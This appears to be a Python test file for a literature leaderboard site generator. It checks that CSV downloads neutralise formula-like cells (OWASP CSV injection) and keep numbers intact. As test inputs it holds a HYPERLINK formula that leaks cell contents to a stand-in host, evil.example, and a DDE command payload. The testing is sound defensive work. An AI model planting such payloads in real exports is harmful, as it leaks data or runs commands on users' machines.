"""CSV downloads never hand a spreadsheet a formula (OWASP CSV injection), and numbers stay
numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from litboard.pipeline.build import build_site
from hypothesis import given
from hypothesis import strategies as st

from litboard.files.csv_cells import FORMULA_START, plain_cell
from litboard.render.core.pages import csv_text, inert_cell

from ..helpers import FIXTURES, copy_root

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"]
)
def test_formula_like_text_gets_a_quote(text: str) -> None:
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-1", "-0.5", "+3", "1e-5", "-2.5E+3", "plain", "", "a=b", -1.5, -3, None]
)
def test_numbers_and_plain_text_are_untouched(value: object) -> None:
    assert inert_cell(value) == value


def test_csv_text_neutralises_text_cells_and_headers_but_not_numbers() -> None:
    frame = pd.DataFrame(
        {"name": [FORMULA, "ok"], "mean": [-1.25, 2.0], "n": [-3, 4], "@head": ["x", "-y"]}
    )
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows == [
        ["name", "mean", "n", "'@head"],
        ["'" + FORMULA, "-1.25", "-3", "x"],
        ["ok", "2", "4", "'-y"],
    ]


def test_every_csv_download_of_a_built_site_is_inert(tmp_path: Path) -> None:
    root = copy_root(FIXTURES / "tiny", tmp_path / "root")
    card = root / "corpus/systems/mt/system.yaml"
    card.write_text(
        card.read_text(encoding="utf-8").replace("name: MT", f"name: {json.dumps(FORMULA)}"),
        encoding="utf-8",
    )
    work = root / "corpus/works/w1/work.yaml"
    work.write_text(
        work.read_text(encoding="utf-8").replace('"Die <b>Verwandlung</b>"', '"@SUM(A1:A9)"'),
        encoding="utf-8",
    )
    paragraphs = root / "corpus/works/w1/paragraphs.jsonl"
    paragraphs.write_text(
        paragraphs.read_text(encoding="utf-8").replace("Als Gregor", "=Als Gregor"),
        encoding="utf-8",
    )
    out = build_site([root], tmp_path / "public").out
    files = sorted(out.rglob("*.csv"))
    assert len(files) >= 4
    seen_formula = 0
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                assert not cell.startswith("-") or NUMBER.fullmatch(cell), (path.name, cell)
                seen_formula += cell == "'" + FORMULA
    assert seen_formula >= 2, "the hostile system name should appear (neutralised) in several CSVs"


@given(st.text())
def test_the_guard_is_undone_exactly(text: str) -> None:
    cell = inert_cell(text)
    assert plain_cell(cell) == text
    assert (
        not cell.lstrip("'").startswith(FORMULA_START)
        or cell.startswith("'")
        or NUMBER.fullmatch(cell)
    )


def test_json_and_latex_downloads_keep_names_as_written(tmp_path: Path) -> None:
    """Issue 33 row 11: the guard's apostrophe leaked into the JSON and LaTeX downloads
    (a system named @home became '@home there)."""
    root = copy_root(FIXTURES / "tiny", tmp_path / "root")
    card = root / "corpus/systems/mt/system.yaml"
    card.write_text(
        card.read_text(encoding="utf-8").replace("name: MT", "name: '@home'"), encoding="utf-8"
    )
    out = build_site([root], tmp_path / "public").out
    boards = sorted(out.rglob("leaderboard-*.json"))
    assert boards
    names = {
        r.get("system_name", r.get("name"))
        for path in boards
        for r in json.loads(path.read_text(encoding="utf-8"))["rows"]
    }
    assert "@home" in names and "'@home" not in names
    tex = "".join(p.read_text(encoding="utf-8") for p in out.rglob("leaderboard-*.tex"))
    assert "@home" in tex and "'@home" not in tex
    csv_cells = [
        c
        for p in out.rglob("leaderboard-*.csv")
        for row in csv.reader(io.StringIO(p.read_text()))
        for c in row
    ]
    assert "'@home" in csv_cells  # the CSV keeps its guard
